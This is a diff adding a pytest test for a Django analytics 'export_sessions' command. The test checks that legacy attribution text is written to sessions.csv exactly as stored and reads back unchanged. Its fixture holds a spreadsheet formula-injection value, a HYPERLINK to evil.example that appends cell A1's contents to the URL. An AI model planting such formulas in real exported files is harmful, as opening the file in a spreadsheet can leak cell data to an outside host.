@@ -86,3 +86,33 @@ def test_export_sessions_of_a_day_without_sessions_writes_the_header(db, tmp_pat
 def test_export_sessions_refuses_a_bad_date(db):
     with pytest.raises(CommandError, match="YYYY-MM-DD"):
         call_command("export_sessions", "--date", "02/10/2025")
+
+
+def test_export_sessions_writes_stored_formula_text_exactly_for_the_pipeline(db, tmp_path):
+    # Attribution stored before /track refused such text: sessions.csv is pipeline input, exact
+    # data like the report files (README, "Text in report files"), so it is written unchanged,
+    # quoted as CSV, and reads back identically with the pipeline's own reader.
+    from analytics.pipeline.inputs import scan_input
+
+    player = PlayerFactory(username="legacy_player")
+    media_source = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    campaign = '+1,"quoted"\nsecond line'
+    PlayerAttribution.objects.create(
+        player=player,
+        media_source=media_source,
+        campaign=campaign,
+        attributed_at="2025-10-01T00:00:00Z",
+    )
+    _batch(player, [{"eventType": "session_start", "timestampUtc": "2025-10-02T09:00:00Z"}])
+    out = tmp_path / "sessions.csv"
+
+    call_command("export_sessions", "--date", "2025-10-02", "--out", str(out))
+
+    assert out.read_text(encoding="utf-8") == (
+        "user_id,session_start,session_end,media_source,campaign\n"
+        'legacy_player,2025-10-02T09:00:00Z,,"=HYPERLINK(""https://evil.example/?""&A1,""open"")",'
+        '"+1,""quoted""\nsecond line"\n'
+    )
+    assert scan_input(out).select("media_source", "campaign").collect().rows() == [
+        (media_source, campaign)
+    ]
